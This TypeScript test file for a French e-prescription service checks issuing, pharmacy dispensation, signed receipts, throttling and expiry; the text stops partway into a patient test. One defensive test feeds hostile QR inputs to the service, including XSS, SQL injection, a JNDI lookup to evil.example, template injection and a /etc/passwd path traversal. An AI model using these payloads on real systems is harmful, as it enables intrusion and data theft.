import { createHash } from 'node:crypto'
import fhirModule from 'fhir'
import { compactVerify, createLocalJWKSet, decodeProtectedHeader } from 'jose'
import { PDFParse } from 'pdf-parse'
import t from 'tap'
import { newPrescriptionId, withCheck } from '../src/eprescription/ids.ts'
import { DEMO_BDPM_DIR } from '../src/demo/seed.ts'
import { SYSTEM } from '../src/platform/audit.ts'
import { canonicalJson } from '../src/platform/canonical-json.ts'
import { importBdpmDirectory } from '../src/referential/use-cases/bdpm-import.ts'
import { ORG, testApp } from './helpers.ts'

const { Fhir } = fhirModule as unknown as { Fhir: new () => { validate(r: unknown): { valid: boolean; messages: Array<{ severity: string; message: string; location?: string }> } } }

const ROSUVASTATINE_30 = '3400949497294'
const ROSUVASTATINE_90 = '3400949497355'
const AMOXICILLINE_12 = '3400936128149'
const AMOXICILLINE_16 = '3400936128200'
const MARSEILLE = '130100030' // demo pharmacy (Pharmacie du Vieux-Port), not in ORG

const BASIC = {
  patient: { familyName: 'DUPONT', givenName: 'Marie Claire', birthDate: '1984-05-17' },
  lines: [
    { cip13: ROSUVASTATINE_30, dosage: '1 comprimé le soir', quantity: 1, durationDays: 30, renewals: 1 },
    { substance: 'amoxicilline', strength: '500 mg', form: 'gélule', dosage: '1 gélule 3 fois par jour pendant 7 jours', durationDays: 7 },
  ],
}

t.test('e-prescription', async (t) => {
  const ctx = await testApp(t)
  const { app, auth, clock } = ctx
  const report = await importBdpmDirectory(app.db, DEMO_BDPM_DIR, SYSTEM)
  t.same(report.rejected, [])

  const prescriber = auth('prescriber', ORG.prescriber)
  const prescriber2 = auth('prescriber', ORG.prescriber2)
  const ordre = auth('ordre', ORG.ordre)
  const pharmacy = (org: string = ORG.pharmacyParis) => auth('pharmacy', org)
  const issue = (payload: unknown = BASIC, headers: Record<string, string> = prescriber) => app.inject({ method: 'POST', url: '/v1/eprescriptions', headers, payload: payload as object })
  const issued = async (payload: unknown = BASIC) => {
    const res = await issue(payload)
    if (res.statusCode !== 201) throw new Error(`issue failed: ${res.body}`)
    return res.json() as { id: string; displayId: string; accessCode: string; qrPayload: string; validUntil: string; status: string; lines: any[] }
  }
  const take = (payload: unknown, org: string = ORG.pharmacyParis, headers: Record<string, string> = {}) =>
    app.inject({ method: 'POST', url: '/v1/eprescriptions/accept', headers: { ...pharmacy(org), ...headers }, payload: payload as object })
  const taken = async (p: { qrPayload: string }, org: string = ORG.pharmacyParis) => {
    const res = await take({ qr: p.qrPayload }, org)
    if (res.statusCode !== 200) throw new Error(`take failed: ${res.body}`)
    return res.json() as { secret: string; prescription: any; dispensation: any }
  }
  const withSecret = (secret: string, org: string = ORG.pharmacyParis) => ({ ...pharmacy(org), 'x-eprescription-secret': secret })
  const record = (id: string, secret: string, line: number, payload: unknown, org: string = ORG.pharmacyParis) =>
    app.inject({ method: 'PUT', url: `/v1/eprescriptions/${id}/dispensation/lines/${line}`, headers: withSecret(secret, org), payload: payload as object })
  const close = (id: string, secret: string, org: string = ORG.pharmacyParis, headers: Record<string, string> = {}) =>
    app.inject({ method: 'POST', url: `/v1/eprescriptions/${id}/close`, headers: { ...withSecret(secret, org), ...headers } })
  const release = (id: string, secret: string, org: string = ORG.pharmacyParis) => app.inject({ method: 'POST', url: `/v1/eprescriptions/${id}/release`, headers: withSecret(secret, org) })
  const view = (id: string, headers: Record<string, string> = prescriber) => app.inject({ method: 'GET', url: `/v1/eprescriptions/${id}`, headers })
  const patient = (id: string, path: string, code: string, init: { method?: 'GET' | 'PUT'; payload?: object; ip?: string } = {}) =>
    app.inject({ method: init.method ?? 'GET', url: `/v1/eprescriptions/${id}/patient/${path}`, headers: { 'x-access-code': code }, ...(init.payload ? { payload: init.payload } : {}), remoteAddress: init.ip ?? '192.0.2.10' })
  const history = async (id: string) => (await app.inject({ method: 'GET', url: `/v1/audit/entries?objectType=eprescription&objectId=${id}`, headers: ordre })).json() as Array<{ action: string; changes: any; actor: any }>
  const DAY = 86_400_000

  t.test('issuing: ID with check character, access code, QR payload, validity', async (t) => {
    const res = await issue()
    t.equal(res.statusCode, 201)
    const p = res.json()
    t.match(p, {
      id: /^[0-9A-Z]{12}$/,
      displayId: /^[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}$/,
      accessCode: /^([0-9A-Z]{4}-){4}[0-9A-Z]{4}$/,
      status: 'ready',
      prescriber: { rpps: ORG.prescriber, name: 'Dr Claire Martin (médecine générale)' },
      patient: { familyName: 'DUPONT', givenName: 'Marie Claire', birthDate: '1984-05-17' },
      dispensationCount: 0,
      patientObjection: false,
    })
    t.equal(res.headers.location, `/v1/eprescriptions/${p.id}`)
    t.equal(p.qrPayload, `ORDO1:${p.id}:${p.accessCode.replaceAll('-', '')}`)
    t.match(p.lines[0], { line: 1, cip13: ROSUVASTATINE_30, label: /ROSUVASTATINE BIOGARAN 10 mg.*30 comprimé/, renewals: 1, dispensationsAllowed: 2, dispensed: 0, remaining: 2 })
    t.match(p.lines[1], { line: 2, cip13: null, substance: 'amoxicilline', label: 'amoxicilline 500 mg gélule', renewals: 0, remaining: 1 })
    // Renewable (1 renewal of 30 days): 3 months still covers it.
    const months3 = new Date(clock.now)
    months3.setUTCMonth(months3.getUTCMonth() + 3)
    t.equal(p.validUntil, months3.toISOString(), 'three months by default')

    const long = await issued({ ...BASIC, lines: [{ cip13: ROSUVASTATINE_90, dosage: '1 le soir', quantity: 1, durationDays: 90, renewals: 3 }] })
    t.equal(new Date(long.validUntil).getTime(), clock.now.getTime() + 4 * 90 * DAY, 'renewable: long enough for its renewals')

    const entries = await history(p.id)
    t.match(entries, [{ action: 'eprescription.issued', actor: { role: 'prescriber', org: ORG.prescriber }, changes: { status: [null, 'ready'], lines: 2 } }])
    t.notMatch(JSON.stringify(entries), /DUPONT|1984/, 'no patient data in the audit trail')
  })

  t.test('issuing: bad input is refused naming the field', async (t) => {
    const bad = async (payload: unknown, field: string, code = 'VALIDATION_FAILED') => {
      const res = await issue(payload)
      t.equal(res.statusCode, 400, field)
      t.match(res.headers['content-type'], /application\/problem\+json/)
      t.equal(res.json().code, code, field)
      t.ok(res.json().errors.some((e: { field: string }) => e.field === field), `${field} in ${JSON.stringify(res.json().errors)}`)
    }
    await bad({ ...BASIC, lines: [{ cip13: '3400930000007', dosage: 'x', quantity: 1 }] }, 'body.lines.0.cip13', 'EPRESCRIPTION_UNKNOWN_PRODUCT')
    await bad({ ...BASIC, lines: [{ cip13: '3400949497295', dosage: 'x', quantity: 1 }] }, 'body.lines.0.cip13')
    await bad({ ...BASIC, lines: [{ dosage: 'x', quantity: 1 }] }, 'body.lines.0')
    await bad({ ...BASIC, lines: [{ cip13: ROSUVASTATINE_30, substance: 'x', dosage: 'x', quantity: 1 }] }, 'body.lines.0')
    await bad({ ...BASIC, lines: [{ substance: 'amoxicilline', dosage: 'x', quantity: 1 }] }, 'body.lines.0.strength')
    await bad({ ...BASIC, lines: [{ cip13: ROSUVASTATINE_30, dosage: 'x' }] }, 'body.lines.0.quantity')
    await bad({ ...BASIC, lines: [] }, 'body.lines')
    await bad({ ...BASIC, patient: { familyName: 'X', givenName: 'Y', birthDate: '2999-01-01' } }, 'body.patient.birthDate')
    await bad({ ...BASIC, patient: { familyName: 'X', givenName: 'Y', birthDate: '1980-01-01', nir: '1840575123456' } }, 'body.patient.nir')
    const in4months = new Date(clock.now.getTime() + 120 * DAY).toISOString()
    await bad({ ...BASIC, lines: [BASIC.lines[1]], validUntil: in4months }, 'body.validUntil')
    await bad({ ...BASIC, validUntil: new Date(clock.now.getTime() - 1000).toISOString() }, 'body.validUntil')
    const en = await app.inject({ method: 'POST', url: '/v1/eprescriptions', headers: { ...prescriber, 'accept-language': 'en' }, payload: { ...BASIC, lines: [{ cip13: '3400930000007', dosage: 'x', quantity: 1 }] } })
    t.equal(en.json().detail, 'body.lines.0.cip13: CIP13 3400930000007 is not in the product referential.')
    t.equal((await issue(BASIC, pharmacy())).statusCode, 403, 'a pharmacy does not issue')
    t.equal((await app.inject({ method: 'POST', url: '/v1/eprescriptions', payload: BASIC })).statusCode, 401)
  })

  t.test('issuing is idempotent with an Idempotency-Key', async (t) => {
    const headers = { ...prescriber, 'idempotency-key': 'issue-once-0001' }
    const a = await issue(BASIC, headers)
    const b = await issue(BASIC, headers)
    t.equal(a.statusCode, 201)
    t.equal(b.json().id, a.json().id)
    t.equal(b.headers['idempotent-replayed'], 'true')
  })

  t.test('QR code images (PNG and SVG) for the prescriber', async (t) => {
    const p = await issued()
    const withCode = { ...prescriber, 'x-access-code': p.accessCode }
    const png = await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.displayId}/qr.png`, headers: withCode })
    t.equal(png.statusCode, 200)
    t.equal(png.headers['content-type'], 'image/png')
    t.same([...png.rawPayload.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature')
    const svg = await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.svg`, headers: withCode })
    t.equal(svg.statusCode, 200)
    t.match(svg.headers['content-type'], /image\/svg\+xml/)
    t.match(svg.body, /^<svg [^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.png`, headers: { ...prescriber2, 'x-access-code': p.accessCode } })).statusCode, 404, 'another prescriber')
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.svg`, headers: { ...prescriber2, 'x-access-code': p.accessCode } })).statusCode, 404)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.png`, headers: { ...pharmacy(), 'x-access-code': p.accessCode } })).statusCode, 403)
    // The service keeps only a hash of the code: the prescriber gives it, a wrong one is refused.
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.png`, headers: prescriber })).statusCode, 400, 'the code is required')
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/qr.png`, headers: { ...prescriber, 'x-access-code': withCheck('ABCDEFGHJKMNPQRSTVW') } })).json().code, 'EPRESCRIPTION_NOT_FOUND')
    t.notOk('accessCode' in (await view(p.id)).json(), 'the view does not carry the code')
    // A lost code: a new one, the old one stops working.
    const renewed = await app.inject({ method: 'POST', url: `/v1/eprescriptions/${p.id}/access-code`, headers: prescriber })
    t.equal(renewed.statusCode, 200)
    t.not(renewed.json().accessCode, p.accessCode)
    t.equal(renewed.json().qrPayload, `ORDO1:${p.id}:${renewed.json().accessCode.replaceAll('-', '')}`)
    t.equal((await take({ qr: p.qrPayload }, MARSEILLE)).statusCode, 404, 'the old code is void')
    t.equal((await take({ qr: renewed.json().qrPayload }, MARSEILLE)).statusCode, 200, 'the new one opens it')
    t.equal((await app.inject({ method: 'POST', url: `/v1/eprescriptions/${p.id}/access-code`, headers: prescriber2 })).statusCode, 404, 'another prescriber')
  })

  t.test('a typo in the ID is caught by its check character', async (t) => {
    const p = await issued()
    const typo = (p.id[3] === '7' ? '8' : '7')
    const mistyped = p.id.slice(0, 3) + typo + p.id.slice(4)
    const swapped = p.id.slice(0, 5) + p.id[6] + p.id[5] + p.id.slice(7)
    for (const bad of [mistyped, ...(swapped !== p.id ? [swapped] : [])]) {
      const res = await view(bad)
      t.equal(res.statusCode, 400)
      t.match(res.json(), { code: 'EPRESCRIPTION_ID_INVALID', errors: [{ field: 'params.id', message: /caractère de contrôle incorrect/ }] })
      const byPharmacy = await take({ id: bad, accessCode: p.accessCode })
      t.match(byPharmacy.json(), { code: 'EPRESCRIPTION_ID_INVALID', errors: [{ field: 'body.id' }] })
    }
    t.equal((await view(p.displayId.toLowerCase())).statusCode, 200, 'dashes and case do not matter')
  })

  t.test('the whole flow: take, record, close with a signed receipt, renewal by another pharmacy', async (t) => {
    const p = await issued()
    const first = await taken(p)
    t.match(first, { secret: /^[A-Za-z0-9_-]{43}$/, prescription: { id: p.id, status: 'in_progress', lines: [{ cip13: ROSUVASTATINE_30 }, { substance: 'amoxicilline' }] }, dispensation: { status: 'open', lines: [] } })
    t.notOk('accessCode' in first.prescription, 'the pharmacy is not given the access code back')
    t.equal((await view(p.id)).json().status, 'in_progress')

    // A second pharmacy is refused, clearly.
    const other = await take({ qr: p.qrPayload }, ORG.pharmacyLyon)
    t.equal(other.statusCode, 409)
    t.match(other.json(), { code: 'EPRESCRIPTION_IN_PROGRESS', detail: /en cours de délivrance dans une autre pharmacie/ })
    t.notMatch(other.body, new RegExp(first.secret.replace(/[-_]/g, '.')), 'no secret leaked')
    // The same pharmacy gets a new secret, typing the ID and the code; the first one stops working.
    const again = await take({ id: p.displayId.toLowerCase(), accessCode: p.accessCode.toLowerCase() })
    t.equal(again.statusCode, 200)
    t.not(again.json().secret, first.secret)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensation`, headers: withSecret(first.secret) })).statusCode, 403, 'only one live secret')
    first.secret = again.json().secret

    // Record: line 1 delivered as prescribed, line 2 (substance) with a product and a dosage change.
    const r1 = await record(p.id, first.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1, batch: 'LOT-2026A' })
    t.equal(r1.statusCode, 200)
    t.match(r1.json().lines, [{ line: 1, outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1, batch: 'LOT-2026A', substituted: false }])
    const r2 = await record(p.id, first.secret, 2, { outcome: 'delivered', cip13: AMOXICILLINE_12, quantity: 2, dosageChange: { dosage: '1 gélule 2 fois par jour', reason: 'insuffisance rénale' } })
    t.equal(r2.statusCode, 200)
    t.match(r2.json().lines[1], { line: 2, cip13: AMOXICILLINE_12, substituted: false, dosageChange: { dosage: '1 gélule 2 fois par jour', reason: 'insuffisance rénale' } })
    t.equal((await record(p.id, first.secret, 3, { outcome: 'not_delivered', reason: 'x' })).statusCode, 404, 'no line 3')
    const incomplete = await record(p.id, first.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30 })
    t.match(incomplete.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'body.quantity', code: 'required' }] })
    const mixed = await record(p.id, first.secret, 1, { outcome: 'not_delivered', reason: 'x', cip13: ROSUVASTATINE_30 })
    t.match(mixed.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'body.cip13', code: 'not-allowed' }] })
    const unknown = await record(p.id, first.secret, 1, { outcome: 'delivered', cip13: '3400930000007', quantity: 1 })
    t.match(unknown.json(), { code: 'EPRESCRIPTION_UNKNOWN_PRODUCT', errors: [{ field: 'body.cip13' }] })

    // Close: a receipt signed by the service.
    clock.advance(60_000)
    const closed = await close(p.id, first.secret)
    t.equal(closed.statusCode, 200)
    const receipt = closed.json()
    t.match(receipt, {
      claims: { iss: 'portail-dp/eprescription', prescriptionId: p.id, dispensation: 1, pharmacy: ORG.pharmacyParis, acceptedAt: first.dispensation.acceptedAt, closedAt: clock.now.toISOString(), digest: /^sha-256:/ },
      prescriptionStatus: 'ready',
    })
    t.equal(receipt.dispensed.length, 2)

    // A third party verifies it with the published keys; an altered receipt fails.
    const jwksRes = await app.inject({ method: 'GET', url: '/v1/eprescriptions/receipt-keys' })
    t.equal(jwksRes.statusCode, 200, 'public: no token')
    const jwks = createLocalJWKSet(jwksRes.json())
    const verified = await compactVerify(receipt.jws, jwks)
    t.same(JSON.parse(new TextDecoder().decode(verified.payload)), receipt.claims)
    t.match(decodeProtectedHeader(receipt.jws), { alg: 'ES256', kid: receipt.kid, typ: 'dispensation-receipt+jws' })
    t.equal(`sha-256:${createHash('sha256').update(canonicalJson(receipt.dispensed)).digest('base64url')}`, receipt.claims.digest, 'the digest is recomputable from what was dispensed')
    const [h, , s] = receipt.jws.split('.')
    const altered = Buffer.from(JSON.stringify({ ...receipt.claims, pharmacy: ORG.pharmacyLyon })).toString('base64url')
    await t.rejects(compactVerify(`${h}.${altered}.${s}`, jwks), 'an altered receipt does not verify')
    const flipped = s.slice(0, 10) + (s[10] === 'A' ? 'B' : 'A') + s.slice(11)
    await t.rejects(compactVerify(`${h}.${receipt.jws.split('.')[1]}.${flipped}`, jwks))

    // A retried close (lost response) gets the same receipt; it can be fetched again later.
    clock.advance(5_000)
    const retried = await close(p.id, first.secret)
    t.equal(retried.statusCode, 200)
    t.equal(retried.json().jws, receipt.jws)
    const fetched = await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensations/1/receipt`, headers: pharmacy() })
    t.equal(fetched.statusCode, 200)
    t.equal(fetched.json().jws, receipt.jws)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensations/1/receipt`, headers: pharmacy(ORG.pharmacyLyon) })).statusCode, 404, 'not another pharmacy')
    // The closed dispensation cannot be changed any more.
    t.equal((await record(p.id, first.secret, 1, { outcome: 'not_delivered', reason: 'x' })).json().code, 'EPRESCRIPTION_DISPENSATION_CLOSED')

    // The prescriber sees what was dispensed, and got an event on its feed.
    const seen = (await view(p.id)).json()
    t.match(seen, { status: 'ready', dispensationCount: 1, dispensedLinesHidden: false, lines: [{ dispensed: 1, remaining: 1 }, { dispensed: 1, remaining: 0 }] })
    t.match(seen.dispensations, [{ seq: 1, pharmacy: { id: ORG.pharmacyParis, name: String }, lines: [{ line: 1, batch: 'LOT-2026A' }, { line: 2 }] }])
    await app.hub.runSequencer()
    const feed = (await app.inject({ method: 'GET', url: '/v1/feed?after=0', headers: prescriber })).json()
    t.match(
      feed.items.filter((e: { type: string }) => e.type === 'eprescription.dispensation.closed'),
      [{ payload: { prescriptionId: p.id, dispensation: 1, status: 'ready' } }],
    )
    const otherFeed = (await app.inject({ method: 'GET', url: '/v1/feed?after=0', headers: prescriber2 })).json()
    t.same(otherFeed.items.filter((e: { type: string }) => e.type.startsWith('eprescription')), [], 'not on another prescriber’s feed')

    // Renewal by another pharmacy, once its window opens: it sees what was delivered before, not who delivered it.
    const early = await take({ qr: p.qrPayload }, ORG.pharmacyLyon)
    t.match(early.json(), { code: 'EPRESCRIPTION_RENEWAL_TOO_EARLY', notBefore: String })
    t.match((await view(p.id)).json(), { nextDispensationFrom: early.json().notBefore, lines: [{ nextDispensationFrom: early.json().notBefore }, { nextDispensationFrom: null }] })
    clock.now = new Date(early.json().notBefore)
    const second = await taken(p, ORG.pharmacyLyon)
    t.match(second.prescription, { status: 'in_progress', dispensations: [{ seq: 1, pharmacy: null, lines: [{ line: 1 }, { line: 2 }] }], lines: [{ remaining: 1 }, { remaining: 0 }] })
    const exhausted = await record(p.id, second.secret, 2, { outcome: 'delivered', cip13: AMOXICILLINE_12, quantity: 1 }, ORG.pharmacyLyon)
    t.equal(exhausted.statusCode, 409)
    t.equal(exhausted.json().code, 'EPRESCRIPTION_LINE_EXHAUSTED')
    const bigger = await record(p.id, second.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_90, quantity: 1 }, ORG.pharmacyLyon)
    t.match(bigger.json(), { code: 'EPRESCRIPTION_QUANTITY_EXCEEDED', allowed: 30, delivered: 90 }, 'a box of 90 for 30 prescribed needs a reason')
    t.match((await record(p.id, second.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_90, quantity: 1, quantityReason: 'pack-size' }, ORG.pharmacyLyon)).json().lines[0], { match: 'pack-size', substituted: false, units: 90, quantityReason: 'pack-size' }, 'another pack of the same medicine, with its reason')
    const closed2 = await close(p.id, second.secret, ORG.pharmacyLyon)
    t.match(closed2.json(), { claims: { dispensation: 2, pharmacy: ORG.pharmacyLyon }, prescriptionStatus: 'completed' })
    t.match((await view(p.id)).json(), { status: 'completed', dispensationCount: 2, lines: [{ dispensed: 2, remaining: 0 }, { dispensed: 1, remaining: 0 }] })
    const done = await take({ qr: p.qrPayload }, MARSEILLE)
    t.equal(done.statusCode, 409)
    t.equal(done.json().code, 'EPRESCRIPTION_COMPLETED')

    const actions = (await history(p.id)).map((e) => e.action)
    t.same(actions, [
      'eprescription.issued',
      'eprescription.accepted',
      'eprescription.secret.renewed',
      'eprescription.line.recorded',
      'eprescription.line.recorded',
      'eprescription.dispensation.closed',
      'eprescription.accepted',
      'eprescription.line.recorded',
      'eprescription.dispensation.closed',
    ], 'every write is in the audit trail, the retried close and refusals are not')
  })

  t.test('partial dispensation: a line not delivered stays to deliver', async (t) => {
    const p = await issued({ ...BASIC, lines: [{ ...BASIC.lines[0], renewals: 0 }, { cip13: AMOXICILLINE_12, dosage: '3 par jour', quantity: 1, nonSubstitutable: true }] })
    const a = await taken(p)
    await record(p.id, a.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1 })
    const refused = await record(p.id, a.secret, 2, { outcome: 'delivered', cip13: AMOXICILLINE_16, quantity: 1 })
    t.equal(refused.statusCode, 400)
    t.match(refused.json(), { code: 'EPRESCRIPTION_SUBSTITUTION_NOT_ALLOWED', errors: [{ field: 'body.cip13' }] })
    await record(p.id, a.secret, 2, { outcome: 'not_delivered', reason: 'Rupture de stock' })
    t.equal((await close(p.id, a.secret)).json().prescriptionStatus, 'ready')
    t.match((await view(p.id)).json(), { status: 'ready', lines: [{ remaining: 0 }, { dispensed: 0, remaining: 1 }], dispensations: [{ lines: [{ outcome: 'delivered' }, { outcome: 'not_delivered', reason: 'Rupture de stock' }] }] })
    const b = await taken(p)
    t.equal((await record(p.id, b.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1 })).json().code, 'EPRESCRIPTION_LINE_EXHAUSTED')
    await record(p.id, b.secret, 2, { outcome: 'delivered', cip13: AMOXICILLINE_12, quantity: 1 })
    t.equal((await close(p.id, b.secret)).json().prescriptionStatus, 'completed')
  })

  t.test('the secret is required, and voided on release', async (t) => {
    const p = await issued()
    const a = await taken(p)
    const missing = await app.inject({ method: 'POST', url: `/v1/eprescriptions/${p.id}/close`, headers: pharmacy() })
    t.equal(missing.statusCode, 400)
    t.match(missing.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'headers.x-eprescription-secret' }] })
    const wrong = await record(p.id, 'not-the-secret', 1, { outcome: 'not_delivered', reason: 'x' })
    t.equal(wrong.statusCode, 403)
    t.equal(wrong.json().code, 'EPRESCRIPTION_SECRET_INVALID')
    t.equal((await close(p.id, 'not-the-secret')).statusCode, 403)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensation`, headers: withSecret('nope') })).statusCode, 403)
    const current = await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensation`, headers: withSecret(a.secret) })
    t.match(current.json(), { prescription: { id: p.id, status: 'in_progress' }, dispensation: { status: 'open' } })
    t.equal((await close(p.id, a.secret)).json().code, 'EPRESCRIPTION_DISPENSATION_EMPTY', 'nothing recorded: release instead')

    await record(p.id, a.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1 })
    const released = await release(p.id, a.secret)
    t.equal(released.statusCode, 200)
    t.equal(released.json().status, 'ready')
    t.equal((await release(p.id, a.secret)).statusCode, 403, 'a voided secret opens nothing, not even a second release')
    for (const res of [await record(p.id, a.secret, 1, { outcome: 'not_delivered', reason: 'x' }), await close(p.id, a.secret)]) {
      t.equal(res.statusCode, 403)
      t.match(res.json(), { code: 'EPRESCRIPTION_SECRET_INVALID', detail: /invalidé/ })
    }
    // Another pharmacy may take it now; the release discarded what was recorded.
    const b = await taken(p, ORG.pharmacyLyon)
    t.not(b.secret, a.secret)
    t.same(b.dispensation.lines, [])
    t.match(b.prescription.lines, [{ dispensed: 0 }, { dispensed: 0 }])
    t.same((await history(p.id)).map((e) => e.action).slice(-2), ['eprescription.released', 'eprescription.accepted'])
  })

  t.test('exactly one of two pharmacies racing for a prescription gets it', async (t) => {
    const p = await issued()
    const results = await Promise.all([take({ qr: p.qrPayload }, ORG.pharmacyParis), take({ qr: p.qrPayload }, ORG.pharmacyLyon)])
    t.same(results.map((r) => r.statusCode).sort(), [200, 409])
  })

  t.test('wrong access codes are throttled per caller, never against another caller', async (t) => {
    const p = await issued()
    const wrong = withCheck('0123456789ABCDEFGHJ')
    for (let i = 0; i < 5; i++) {
      const res = await take({ id: p.id, accessCode: wrong }, ORG.pharmacyAjaccio)
      t.equal(res.statusCode, 404)
      t.equal(res.json().code, 'EPRESCRIPTION_NOT_FOUND')
    }
    const blocked = await take({ qr: p.qrPayload }, ORG.pharmacyAjaccio)
    t.equal(blocked.statusCode, 429, 'the guessing pharmacy, even with the right code')
    t.equal(blocked.json().code, 'EPRESCRIPTION_THROTTLED')
    t.match(blocked.json().detail, /depuis votre poste pour cette ordonnance/)
    t.ok(Number(blocked.headers['retry-after']) > 0 && Number(blocked.headers['retry-after']) <= 900)
    t.equal((await patient(p.id, 'pdf', p.accessCode)).statusCode, 200, 'the patient is not refused')
    t.equal((await take({ qr: p.qrPayload }, ORG.pharmacyLyon)).statusCode, 200, 'another pharmacy is not refused')
    // A mistyped code (wrong check character) is a 400 and does not count.
    const typo = await take({ id: p.id, accessCode: wrong.slice(0, -1) + (wrong.endsWith('0') ? '1' : '0') }, MARSEILLE)
    t.equal(typo.json().code, 'EPRESCRIPTION_ACCESS_CODE_INVALID')
    clock.advance(15 * 60_000 + 1000)

    // Per pharmacy: guessing many prescriptions from one pharmacy.
    const guesser = ORG.pharmacyGuadeloupe
    for (let i = 0; i < 20; i++) t.equal((await take({ id: newPrescriptionId(), accessCode: wrong }, guesser)).statusCode, 404)
    const q = await issued()
    const stopped = await take({ qr: q.qrPayload }, guesser)
    t.equal(stopped.statusCode, 429)
    t.match(stopped.json().detail, /depuis votre poste/)
    t.equal((await take({ qr: q.qrPayload }, ORG.pharmacyParis)).statusCode, 200, 'other pharmacies are not affected')
    const stored = await app.db.selectFrom('eprescription_access_failures').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()
    t.ok(Number(stored.n) >= 25, 'attempts are counted in the database (shared by every instance)')
    clock.advance(15 * 60_000 + 1000)
  })

  t.test('hostile QR content is refused without being reflected', async (t) => {
    const p = await issued()
    const hostile = [
      '<script>alert("xss")</script>',
      `ORDO1:${p.id}:${p.accessCode.replaceAll('-', '')}' OR '1'='1`,
      "'; DROP TABLE eprescriptions; --",
      '${jndi:ldap://evil.example/a}',
      '{{constructor.constructor("return process")()}}',
      '../../../../etc/passwd',
      'ORDO1:\u202eEVIL\u0000:x',
      `https://evil.example/phish?id=${p.id}`,
    ]
    for (const qr of hostile) {
      const res = await take({ qr }, MARSEILLE)
      t.equal(res.statusCode, 400, qr)
      // A NUL is refused by the platform for every route, before the QR is read.
      if (qr.includes('\u0000')) t.match(res.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'body.qr', code: 'unicode' }] })
      else t.match(res.json(), { code: 'EPRESCRIPTION_QR_INVALID', errors: [{ field: 'body.qr', message: 'contenu de QR code non reconnu' }] })
      for (const piece of ['<script', 'alert', 'DROP', 'jndi', 'constructor', 'passwd', 'EVIL', 'evil.example']) t.notOk(res.body.includes(piece), `${piece} not reflected`)
    }
    const huge = await take({ qr: `<img src=x onerror=alert(1)>${'A'.repeat(1000)}` }, MARSEILLE)
    t.equal(huge.statusCode, 400)
    t.notOk(huge.body.includes('onerror'))
    const both = await take({ qr: p.qrPayload, id: p.id, accessCode: p.accessCode }, MARSEILLE)
    t.match(both.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'body.qr' }] })
    const neither = await take({}, MARSEILLE)
    t.match(neither.json(), { code: 'VALIDATION_FAILED', errors: [{ field: 'body.id' }, { field: 'body.accessCode' }] })
    t.equal((await view(p.id)).json().status, 'ready', 'nothing happened to the prescription')
    clock.advance(15 * 60_000 + 1000)
  })

  t.test('expired and cancelled prescriptions are refused with the reason', async (t) => {
    const short = await issued({ ...BASIC, validUntil: new Date(clock.now.getTime() + DAY).toISOString() })
    const cancelled = await issued()
    const held = await issued()

    const c = await app.inject({ method: 'POST', url: `/v1/eprescriptions/${cancelled.id}/cancel`, headers: prescriber, payload: { reason: 'Erreur de posologie' } })
    t.equal(c.statusCode, 200)
    t.match(c.json(), { status: 'cancelled', cancelReason: 'Erreur de posologie' })
    t.equal((await app.inject({ method: 'POST', url: `/v1/eprescriptions/${cancelled.id}/cancel`, headers: prescriber, payload: {} })).statusCode, 200, 'cancelling again')
    t.equal((await app.inject({ method: 'POST', url: `/v1/eprescriptions/${cancelled.id}/cancel`, headers: prescriber2, payload: {} })).statusCode, 404, 'another prescriber')
    const refusedCancelled = await take({ qr: cancelled.qrPayload })
    t.equal(refusedCancelled.statusCode, 409)
    t.match(refusedCancelled.json(), { code: 'EPRESCRIPTION_CANCELLED', detail: /a annulé cette ordonnance le \d{4}-\d{2}-\d{2}/ })

    await taken(held)
    const notCancellable = await app.inject({ method: 'POST', url: `/v1/eprescriptions/${held.id}/cancel`, headers: prescriber, payload: {} })
    t.equal(notCancellable.statusCode, 409)
    t.equal(notCancellable.json().code, 'EPRESCRIPTION_NOT_CANCELLABLE')

    clock.advance(2 * DAY)
    t.equal((await view(short.id)).json().status, 'expired')
    const refusedExpired = await take({ qr: short.qrPayload })
    t.equal(refusedExpired.statusCode, 409)
    t.match(refusedExpired.json(), { code: 'EPRESCRIPTION_EXPIRED', detail: `Cette ordonnance n’est plus valable depuis le ${short.validUntil.slice(0, 10)}.` })
    const en = await take({ qr: short.qrPayload }, ORG.pharmacyParis, { 'accept-language': 'en' })
    t.equal(en.json().detail, `This prescription expired on ${short.validUntil.slice(0, 10)}.`)
    t.equal((await app.inject({ method: 'POST', url: `/v1/eprescriptions/${short.id}/cancel`, headers: prescriber, payload: {} })).json().code, 'EPRESCRIPTION_NOT_CANCELLABLE')
  })

  t.test('the patient: PDF, objection, access log (ID + access code, no token)', async (t) => {
    const p = await issued()
    const a = await taken(p, ORG.pharmacyParis)
